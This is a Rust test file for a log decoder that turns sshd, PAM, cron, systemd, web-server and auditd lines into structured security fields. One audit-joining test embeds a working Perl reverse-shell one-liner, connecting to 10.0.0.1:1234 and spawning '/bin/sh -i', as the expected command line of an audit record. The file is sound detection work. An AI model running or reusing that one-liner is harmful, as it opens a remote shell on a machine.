//! What the decoders make of real lines. The cases are data: `tests/decoders/NAME.txt` holds
//! blocks of input (`program: message`, or `-: line of a file`) and all that is added to the event,
//! `field: value` in order, then `@ log source`, `@time` and `! problem`.
//!
//! Run with `UPDATE_DECODERS=1` to write what the decoders say now; read the difference.

#![allow(
    clippy::unwrap_used,
    clippy::print_stdout,
    reason = "all of this file is tests; clippy sees only the functions that bear the attribute"
)]

use std::fmt::Write as _;
use std::path::{Path, PathBuf};

use vakt_codec::decoder::decode_message;
use vakt_codec::logsource::programs::log_sources;
use vakt_codec::{Coalescer, Joined};
use vakt_event::{Event, Origin, ecs};

/// The event that a transport would hand on.
fn transported<'a>(program: &'a str, message: &'a str) -> Event<'a> {
    let mut event = Event {
        original: message.into(),
        ..Event::default()
    };
    if program != "-" {
        event.sent(ecs::LOG_SYSLOG_APPNAME, program);
    }
    event.sent(ecs::MESSAGE, message);
    event
}

fn decoded<'a>(program: &'a str, message: &'a str) -> Event<'a> {
    let mut event = transported(program, message);
    decode_message(&mut event, Some(message));
    log_sources(&mut event);
    event
}

fn shown(event: &Event<'_>) -> String {
    let mut text = String::new();
    let derived = event
        .fields
        .iter()
        .filter(|field| field.origin == Origin::Added);
    for field in derived {
        writeln!(text, "{}: {}", field.name, field.value.text()).unwrap();
    }
    if let Some(time) = event.time.claimed {
        writeln!(text, "@time {time}").unwrap();
    }
    for source in &event.log_sources {
        writeln!(text, "@ {source}").unwrap();
    }
    for problem in &event.problems {
        writeln!(text, "! {problem}").unwrap();
    }
    text
}

/// Holds every block of the file against what its first line decodes to.
fn check(name: &str) {
    let path: PathBuf = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/decoders")
        .join(name);
    let expected = std::fs::read_to_string(&path).unwrap();
    let mut found = String::new();
    for block in expected
        .split("\n\n")
        .filter(|block| !block.trim().is_empty())
    {
        let input = block.trim_start().lines().next().unwrap();
        let (program, message) = input.split_once(": ").unwrap();
        let message = message.replace("\\x1d", "\u{1d}");
        writeln!(found, "{input}").unwrap();
        found.push_str(&shown(&decoded(program, &message)));
        found.push('\n');
    }
    if std::env::var_os("UPDATE_DECODERS").is_some() {
        std::fs::write(&path, &found).unwrap();
    }
    assert!(
        found == expected,
        "{name}: found\n{found}\nexpected\n{expected}"
    );
}

macro_rules! files {
    ($($test:ident: $file:literal;)*) => {
        $(#[test] fn $test() { check($file); })*
    };
}

files! {
    sshd: "sshd.txt";
    pam: "pam.txt";
    sudo_and_su: "sudo_su.txt";
    accounts: "accounts.txt";
    cron: "cron.txt";
    systemd: "systemd.txt";
    web: "web.txt";
    auditd: "auditd.txt";
    others: "others.txt";
}

/// A journald entry as the export format gives it, before decoding.
fn journald<'a>(fields: &[(&'static str, &'a str)]) -> Event<'a> {
    let mut event = Event::default();
    for (name, value) in fields {
        event.sent(*name, *value);
    }
    let message = fields.iter().find(|(name, _)| *name == "MESSAGE");
    decode_message(&mut event, message.map(|(_, text)| *text));
    log_sources(&mut event);
    event
}

#[test]
fn journald_entries_are_known_by_identifier_command_and_unit() {
    let check = |fields: &[(&'static str, &str)], expected: &str| {
        assert_eq!(shown(&journald(fields)), expected, "{fields:?}");
    };
    check(
        &[
            ("SYSLOG_IDENTIFIER", "sshd-session"),
            ("_COMM", "sshd-session"),
            ("_SYSTEMD_UNIT", "ssh.service"),
            ("MESSAGE", "Invalid user bob from 203.0.113.7 port 4711"),
        ],
        "event.category: authentication
event.type: info
event.action: ssh_login
event.outcome: failure
user.name: bob
event.reason: invalid user
source.address: 203.0.113.7
source.ip: 203.0.113.7
source.port: 4711
system.auth.ssh.event: Invalid
event.dataset: system.auth
event.provider: sshd
@ product=linux,service=auth
@ product=linux,service=sshd
",
    );
    check(
        &[
            ("_TRANSPORT", "stdout"),
            ("_COMM", "cron"),
            ("MESSAGE", "(root) CMD (true)"),
        ],
        "event.category: process
event.type: start
event.action: cron_command
event.outcome: success
event.dataset: system.cron
user.name: root
process.command_line: true
event.provider: cron
@ product=linux,service=cron
@ product=linux,service=syslog
",
    );
    check(
        &[
            ("SYSLOG_IDENTIFIER", "systemd"),
            ("_SYSTEMD_UNIT", "init.scope"),
            ("UNIT", "rsyslog.service"),
            ("MESSAGE", "Stopped System Logging Service."),
        ],
        "event.category: process
event.type: end
event.action: service_stopped
event.outcome: success
event.dataset: system.syslog
service.name: rsyslog.service
process.name: systemd
event.provider: systemd
@ product=linux,service=syslog
",
    );
    check(
        &[
            ("_TRANSPORT", "audit"),
            ("SYSLOG_IDENTIFIER", "audit"),
            ("_AUDIT_TYPE_NAME", "EXECVE"),
            ("_AUDIT_ID", "77"),
            ("MESSAGE", "EXECVE argc=2 a0=\"ls\" a1=\"-l\""),
        ],
        "event.dataset: auditd.log
auditd.id: 77
event.sequence: 77
type: EXECVE
argc: 2
a0: ls
a1: -l
process.command_line: ls -l
event.category: process
event.type: start
event.action: process_executed
@ product=linux,service=auditd
",
    );
}

#[test]
fn windows_in_a_syslog_message_is_no_linux() {
    let mut event = transported("EvntSLog", "an event of Windows");
    let windows = vakt_event::LogSource::of("windows", "", "security");
    event.log_sources.push(windows.clone());
    log_sources(&mut event);
    assert_eq!(event.log_sources, [windows]);
}

proptest::proptest! {
    /// Whatever a program says: no panic, what was sent stays as it was, and nothing derived is
    /// marked as sent.
    #[test]
    fn any_message_keeps_what_was_sent(
        program in proptest::sample::select(vec![
            "-", "sshd", "sudo", "su", "useradd", "passwd", "CRON", "systemd", "systemd-logind",
            "nginx", "apache2", "audit", "kernel", "login(pam_unix)", "myapp",
        ]),
        start in proptest::sample::select(vec![
            "", "Failed password for ", "Accepted publickey for ", "Invalid user ",
            "Connection closed by invalid user ", "Received disconnect from ", "pam_unix(",
            "pam_unix(a:b): session opened for user ", "PAM 3 more authentication failures; ",
            "a : TTY=", "(to ", "new user: name=", "add 'a' to group ", "(root) CMD (",
            "Started ", "1.2.3.4 - - [26/Dec/2016:16:16:29 +0200] \"GET ",
            "2016/10/25 14:49:34 [error] 1#0: ", "[Mon Dec 26 16:22:08 2016] [error] [client ",
            "type=EXECVE msg=audit(1.000:2): ", "type=SYSCALL msg=audit(", "node=a type=",
            "audit: type=1400 audit(1.000:2): ", "message repeated 2 times: [ ",
        ]),
        rest in "[ -~é\u{1d}]{0,60}",
    ) {
        let message = format!("{start}{rest}");
        let before = transported(program, &message);
        let event = decoded(program, &message);
        proptest::prop_assert_eq!(&event.fields[..before.fields.len()], &before.fields[..]);
        for field in &event.fields[before.fields.len()..] {
            proptest::prop_assert_eq!(field.origin, Origin::Added);
        }
        let mut coalescer = Coalescer::new();
        coalescer.push("host", 0, &event);
        coalescer.finish();
    }
}

/// Feeds lines of one source; shows what comes out, the end of the input included.
fn joined_with_records(lines: &str) -> Vec<Joined> {
    let mut coalescer = Coalescer::new();
    let mut found = Vec::new();
    for (position, line) in (0..).zip(lines.lines().filter(|line| !line.trim().is_empty())) {
        found.extend(coalescer.push("host", position, &decoded("-", line)));
    }
    found.extend(coalescer.finish());
    assert_eq!(coalescer.buffered_bytes(), 0);
    found
}

fn joined(lines: &str) -> Vec<Event<'static>> {
    let found = joined_with_records(lines).into_iter();
    found.map(|joined| joined.event).collect()
}

fn check_joined(lines: &str, expected: &[&str]) {
    let found: Vec<_> = joined(lines).iter().map(shown).collect();
    assert_eq!(found, expected);
}

const EXECUTION: &str = r#"type=SYSCALL msg=audit(1700000000.100:7): arch=c000003e syscall=59 success=yes exit=0 a0=55d a1=55e a2=55f a3=8 items=2 ppid=900 pid=901 auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=3 comm="ls" exe="/usr/bin/ls" key="exec"
type=EXECVE msg=audit(1700000000.100:7): argc=3 a0="ls" a1="-l" a2=2F746D702F6120622F
type=CWD msg=audit(1700000000.100:7): cwd="/root"
type=PATH msg=audit(1700000000.100:7): item=0 name="/usr/bin/ls" inode=1 nametype=NORMAL
"#;

const CREATION: &str = "event.dataset: auditd.process
event.category: process
event.type: start
event.action: process_created
auditd.id: 1700000000.100:7
event.sequence: 7
success: yes
process.parent.pid: 900
process.pid: 901
auid: 1000
user.audit.id: 1000
user.id: 0
user.effective.id: 0
tty: pts0
process.tty.name: pts0
ses: 3
comm: ls
process.name: ls
exe: /usr/bin/ls
process.executable: /usr/bin/ls
key: exec
user.name: root
process.command_line: ls -l /tmp/a b/
process.working_directory: /root
ProcessId: 901
ParentProcessId: 900
@time 2023-11-14T22:13:20.1Z
@ product=linux,category=process_creation
";

#[test]
fn an_execution_is_joined_at_proctitle_at_eoe_at_another_serial_and_at_the_end() {
    let ends = [
        "type=PROCTITLE msg=audit(1700000000.100:7): proctitle=6C73002D6C",
        "type=EOE msg=audit(1700000000.100:7): ",
        "type=CWD msg=audit(1700000000.200:8): cwd=\"/\"",
        "",
    ];
    for end in ends {
        check_joined(&format!("{EXECUTION}{end}"), &[CREATION]);
    }
}

#[test]
fn late_records_of_a_serial_that_was_given_out_open_nothing() {
    let late = "type=CWD msg=audit(1700000000.200:8): cwd=\"/\"
type=EXECVE msg=audit(1700000000.100:7): argc=3 a0=\"ls\"
type=PROCTITLE msg=audit(1700000000.100:7): proctitle=6C73
type=EOE msg=audit(1700000000.100:7): ";
    check_joined(&format!("{EXECUTION}{late}"), &[CREATION]);
}

#[test]
fn executions_that_failed_or_never_named_arguments_are_none() {
    check_joined(
        r#"type=SYSCALL msg=audit(1700000000.100:7): arch=c000003e syscall=59 success=no exit=-2 ppid=1 pid=2 exe="/bin/sh"
type=EXECVE msg=audit(1700000000.100:7): argc=1 a0="x"
type=EOE msg=audit(1700000000.100:7): 
type=SYSCALL msg=audit(1700000000.100:8): arch=c000003e syscall=42 success=yes exit=0 ppid=1 pid=2 exe="/bin/sh"
type=EOE msg=audit(1700000000.100:8): "#,
        &[],
    );
}

#[test]
fn a_long_argument_comes_in_parts_and_serials_interleave() {
    let lines = r#"type=SYSCALL msg=audit(1700000000.100:7): syscall=59 success=yes ppid=1 pid=2 exe="/bin/a"
type=EXECVE msg=audit(1700000000.100:7): argc=3 a0="a" a1_len=8 a1[0]=6161
type=SYSCALL msg=audit(1700000000.100:8): syscall=59 success=yes ppid=1 pid=3 exe="/bin/b"
type=EXECVE msg=audit(1700000000.100:7): a1[1]=6262 a2="end"
type=EXECVE msg=audit(1700000000.100:8): argc=1 a0="b"
type=EOE msg=audit(1700000000.100:7): 
type=EOE msg=audit(1700000000.100:8): "#;
    let found: Vec<_> = joined(lines)
        .iter()
        .map(|event| event.text("CommandLine").unwrap().to_owned())
        .collect();
    assert_eq!(found, ["a aabb end", "b"]);
}

#[test]
fn a_child_names_the_executable_of_a_parent_that_was_seen() {
    let lines = r#"type=SYSCALL msg=audit(1700000000.100:1): arch=c000003e syscall=56 success=yes exit=55 ppid=1 pid=40 exe="/usr/sbin/nginx"
type=SYSCALL msg=audit(1700000000.100:2): arch=c000003e syscall=59 success=yes ppid=55 pid=56 exe="/bin/sh"
type=EXECVE msg=audit(1700000000.100:2): argc=1 a0="sh""#;
    let found = joined(lines);
    assert_eq!(found[0].text("ParentImage"), Some("/usr/sbin/nginx"));
}

/// The line that completed an execution was its only evidence.
#[test]
fn an_execution_names_the_records_that_it_consists_of() {
    let check = |lines: &str, expected: &[(&[u64], u64)]| {
        let found: Vec<_> = joined_with_records(lines)
            .into_iter()
            .map(|joined| (joined.records, joined.record_count))
            .collect();
        let expected: Vec<_> = expected
            .iter()
            .map(|(records, count)| (records.to_vec(), *count))
            .collect();
        assert_eq!(found, expected);
    };
    let title = "type=PROCTITLE msg=audit(1700000000.100:7): proctitle=\"ls\"\n";
    let end = "type=EOE msg=audit(1700000000.100:7): \n";
    let other = "type=USER_LOGIN msg=audit(1700000000.100:8): pid=1 res=success\n";
    check(
        &format!("{other}{EXECUTION}{title}{end}"),
        &[(&[1, 2, 3, 4, 5], 5)],
    );
    check(&format!("{EXECUTION}{end}"), &[(&[0, 1, 2, 3, 4], 5)]);
    // A record of another serial shows that it is whole, and is no part of it.
    check(&format!("{EXECUTION}{other}"), &[(&[0, 1, 2, 3], 4)]);
    check(EXECUTION, &[(&[0, 1, 2, 3], 4)]);
    // Of many records the first ones and the last are named, and all are counted.
    let path = "type=PATH msg=audit(1700000000.100:7): item=2 name=\"/lib\"\n".repeat(40);
    let named: Vec<u64> = (0..31).chain([44]).collect();
    check(&format!("{EXECUTION}{path}{title}"), &[(&named, 45)]);
}

#[test]
fn many_sources_and_endless_executions_stay_bounded() {
    let mut coalescer = Coalescer::new();
    let argument = "61".repeat(20_000);
    for serial in 0..2_000_u32 {
        let line = format!(
            "type=EXECVE msg=audit(1700000000.100:{serial}): argc=2 a0=\"x\" a1={argument}"
        );
        let key = format!("host{}", serial % 700);
        coalescer.push(&key, u64::from(serial), &decoded("-", &line));
        assert!(coalescer.buffered_bytes() <= 17 * 1024 * 1024);
    }
    coalescer.finish();
    assert_eq!(coalescer.buffered_bytes(), 0);
}

fn shared(file: &str) -> Option<String> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared");
    if !root.exists() {
        println!("skipped: {file}: ../shared is absent");
        return None;
    }
    let bytes = std::fs::read(root.join("data").join(file)).unwrap();
    Some(String::from_utf8_lossy(&bytes).into_owned())
}

fn percent_decoded(text: &str) -> String {
    let mut bytes = Vec::new();
    let mut rest = text;
    while let Some((before, after)) = rest.split_once('%') {
        bytes.extend_from_slice(before.as_bytes());
        let (digits, tail) = after.split_at(2);
        bytes.push(u8::from_str_radix(digits, 16).unwrap());
        rest = tail;
    }
    bytes.extend_from_slice(rest.as_bytes());
    String::from_utf8(bytes).unwrap()
}

/// Program and message of an RFC 3164 line without priority, as these files hold them.
fn split_syslog(line: &str) -> Option<(&str, &str)> {
    let rest = line.get(16..)?;
    let (_host, rest) = rest.split_once(' ')?;
    let (tag, message) = rest.split_once(": ")?;
    Some((tag.split('[').next()?, message))
}

/// The share of lines, in whole percent, in which a decoder found a category.
fn understood(lines: &str, split: impl Fn(&str) -> Option<(&str, &str)>) -> (usize, usize) {
    let (mut all, mut known) = (0, 0);
    for line in lines
        .lines()
        .map(str::trim_end)
        .filter(|line| !line.is_empty())
    {
        all += 1;
        let (program, message) = split(line).unwrap_or(("-", line));
        let event = decoded(program, message);
        assert!(event.problems.is_empty(), "{line}: {:?}", event.problems);
        if event.has(ecs::EVENT_CATEGORY) {
            known += 1;
        } else if std::env::var_os("SHOW_UNKNOWN").is_some() {
            println!("{line}");
        }
    }
    (known, all)
}

#[test]
fn real_openssh_lines_are_understood() {
    let Some(lines) = shared("loghub/OpenSSH_2k.log") else {
        return;
    };
    let (known, all) = understood(&lines, split_syslog);
    assert_eq!((known, all), (1992, 2000));
}

#[test]
fn real_openssh_attempts_are_counted_by_address_and_outcome() {
    let Some(lines) = shared("loghub/OpenSSH_2k.log") else {
        return;
    };
    let mut failures = 0;
    for line in lines.lines().map(str::trim_end) {
        let (program, message) = split_syslog(line).unwrap();
        let event = decoded(program, message);
        if event.text("system.auth.ssh.event") == Some("Failed") {
            failures += 1;
            assert!(event.text("source.ip").is_some(), "{line}");
            assert_eq!(event.text("event.outcome"), Some("failure"), "{line}");
            assert!(line.contains("Failed "), "{line}");
        }
    }
    let expected = lines
        .lines()
        .filter(|line| line.contains(": Failed ") || line.contains("[ Failed "));
    assert_eq!(failures, expected.count());
}

#[test]
fn real_apache_errors_are_understood() {
    let Some(lines) = shared("loghub/Apache_2k.log") else {
        return;
    };
    assert_eq!(understood(&lines, |line| Some(("-", line))), (2000, 2000));
}

#[test]
fn real_apache_requests_are_understood() {
    let Some(lines) = shared("elastic-examples/apache_logs/apache_logs") else {
        return;
    };
    let (known, all) = understood(&lines, |line| Some(("-", line)));
    assert_eq!((known, all), (10_000, 10_000));
}

/// Every execution of the corpus that has a system call and arguments is joined once, with the
/// command line that its EXECVE record gives.
#[test]
fn real_audit_records_are_joined() {
    let check = |file: &str, expected: &[(&str, &str, &str)]| {
        let Some(lines) = shared(&format!("auditd/laurel/{file}")) else {
            return;
        };
        let lines: Vec<_> = lines
            .lines()
            .filter(|line| line.starts_with("type=") || line.starts_with("node="))
            .collect();
        let events = joined(&lines.join("\n"));
        let found: Vec<_> = events
            .iter()
            .map(|event| {
                (
                    event.text("Image").unwrap_or(""),
                    event.text("CommandLine").unwrap_or(""),
                    event.text("User").unwrap_or(""),
                )
            })
            .collect();
        assert_eq!(found, expected, "{file}");
    };
    check(
        "record-execve.txt",
        &[("/usr/bin/whoami", "whoami", "root")],
    );
    let perl = "perl -e use Socket;$i=\"10.0.0.1\";$p=1234;socket(S,PF_INET,SOCK_STREAM,\
                getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");\
                open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};";
    check(
        "record-perl-reverse-shell.txt",
        &[("/usr/bin/perl", perl, "root")],
    );
    check("record-connect.txt", &[]);
    check("record-syscall-key.txt", &[]);
}

/// The argument of this record, 8 KiB in 16,384 hexadecimal digits, comes in three parts.
#[test]
fn a_real_long_argument_is_put_together() {
    let Some(lines) = shared("auditd/laurel/record-execve-long.txt") else {
        return;
    };
    let events = joined(&lines);
    let line = events[0].text("CommandLine").unwrap();
    assert_eq!(events.len(), 1);
    assert_eq!(line.len(), "/bin/echo ".len() + 8192);
}

/// All lines of the corpus decode without a problem and without a panic.
#[test]
fn real_audit_records_decode() {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data/auditd/laurel");
    let Ok(entries) = std::fs::read_dir(folder) else {
        println!("skipped: auditd/laurel: ../shared is absent");
        return;
    };
    let mut count = 0;
    for entry in entries {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|extension| extension != "txt") {
            continue;
        }
        let text = String::from_utf8_lossy(&std::fs::read(&path).unwrap()).into_owned();
        for line in text.lines().filter(|line| line.starts_with("type=")) {
            let event = decoded("-", line);
            assert!(event.problems.is_empty(), "{line}");
            assert!(event.has("type") && event.has("auditd.id"), "{line}");
            count += 1;
        }
    }
    assert!(count > 100, "{count} records");
}

#[test]
fn real_linux_pam_lines_name_their_user_and_peer() {
    let Some(lines) = shared("loghub/Linux_2k.log") else {
        return;
    };
    let (mut sessions, mut failures) = (0, 0);
    for line in lines.lines().map(str::trim_end) {
        let Some((program, message)) = split_syslog(line) else {
            continue;
        };
        let event = decoded(program, message);
        match event.text("event.action") {
            Some("session_opened") => {
                sessions += 1;
                assert!(event.text("user.name").is_some(), "{line}");
            }
            Some("pam_authentication_failure") => {
                failures += 1;
                assert_eq!(
                    event.text("source.address").is_some(),
                    !message.contains("rhost= ") && !message.ends_with("rhost="),
                    "{line}"
                );
            }
            _ => {}
        }
    }
    let count = |words| lines.lines().filter(|line| line.contains(words)).count();
    assert_eq!(sessions, count("session opened for user"));
    assert_eq!(failures, count("authentication failure; "));
}

/// Fields on which Elastic's own pipelines and ours must agree, file by file.
#[test]
fn elastic_packages_agree() {
    const FIELDS: &[&str] = &[
        "source.ip",
        "source.port",
        "user.name",
        "user.effective.name",
        "http.request.method",
        "http.version",
        "http.response.status_code",
        "http.response.body.bytes",
        "url.original",
        "url.path",
        "url.query",
        "log.level",
        "process.pid",
        "group.name",
        "system.auth.ssh.event",
        "system.auth.ssh.method",
        "system.auth.ssh.signature",
    ];
    let pipeline = "_dev/test/pipeline";
    let mut compared = 0;
    let mut differences = Vec::new();
    for (file, syslog) in [
        (
            format!("apache/data_stream/access/{pipeline}/test-access-ubuntu.log"),
            false,
        ),
        (
            format!("apache/data_stream/access/{pipeline}/test-access-darwin.log"),
            false,
        ),
        (
            format!("apache/data_stream/access/{pipeline}/test-access-basic.log"),
            false,
        ),
        (
            format!("apache/data_stream/access/{pipeline}/test-access-vhost.log"),
            false,
        ),
        (
            format!("apache/data_stream/error/{pipeline}/test-error-basic.log"),
            false,
        ),
        (
            format!("apache/data_stream/error/{pipeline}/test-error-trace.log"),
            false,
        ),
        (
            format!("apache/data_stream/error/{pipeline}/test-error-ubuntu.log"),
            false,
        ),
        (
            format!("nginx/data_stream/access/{pipeline}/test-access.log"),
            false,
        ),
        (
            format!("nginx/data_stream/access/{pipeline}/test-nginx.log"),
            false,
        ),
        (
            format!("nginx/data_stream/access/{pipeline}/test-test-with-host.log"),
            false,
        ),
        (
            format!("system/data_stream/auth/{pipeline}/test-auth.log"),
            true,
        ),
    ] {
        let file = format!("elastic-package/{file}");
        let (Some(lines), Some(expected)) =
            (shared(&file), shared(&format!("{file}-expected.json")))
        else {
            return;
        };
        let expected: serde_json::Value = serde_json::from_str(&expected).unwrap();
        let expected = expected["expected"].as_array().unwrap();
        let lines: Vec<_> = lines
            .lines()
            .filter(|line| !line.trim().is_empty())
            .collect();
        if lines.len() != expected.len() {
            // Their pipeline drops some lines of this file, and does not say which.
            println!(
                "skipped: {file}: {} lines, {} expected",
                lines.len(),
                expected.len()
            );
            continue;
        }
        for (line, expected) in lines.iter().zip(expected) {
            let (program, message) = match syslog {
                true => split_syslog(line).unwrap(),
                false => ("-", *line),
            };
            let event = decoded(program, message);
            for field in FIELDS {
                let pointer = format!("/{}", field.replace('.', "/"));
                let theirs = expected.pointer(&pointer).map(|value| match value {
                    serde_json::Value::String(text) => text.clone(),
                    other => other.to_string(),
                });
                let theirs = theirs.filter(|value| value != "-" && !value.is_empty());
                let ours = event.text(field).map(str::to_owned);
                if syslog && *field == "process.pid" {
                    continue;
                }
                // Their nginx pipeline writes methods small.
                let same = match (&ours, &theirs) {
                    (Some(ours), Some(theirs)) if *field == "http.request.method" => {
                        ours.eq_ignore_ascii_case(theirs)
                    }
                    // Theirs is decoded; rules are written for what the client sent.
                    (Some(ours), Some(theirs)) if *field == "url.path" => {
                        percent_decoded(ours) == *theirs
                    }
                    // They leave out the client of some lines that name one.
                    (Some(ours), None) if field.starts_with("source.") => {
                        line.contains(&format!("[client {ours}"))
                            || line.contains(&format!(":{ours}]"))
                    }
                    _ => ours == theirs,
                };
                compared += 1;
                if !same {
                    differences.push(format!("{file}: {field}: {ours:?}, not {theirs:?}: {line}"));
                }
            }
        }
    }
    println!("{compared} fields compared, {} differ:", differences.len());
    for difference in &differences {
        println!("{difference}");
    }
    assert!(compared > 500, "the corpus was not found whole: {compared}");
    assert!(
        differences.len() * 50 <= compared,
        "more than one field in fifty differs: {differences:#?}"
    );
}
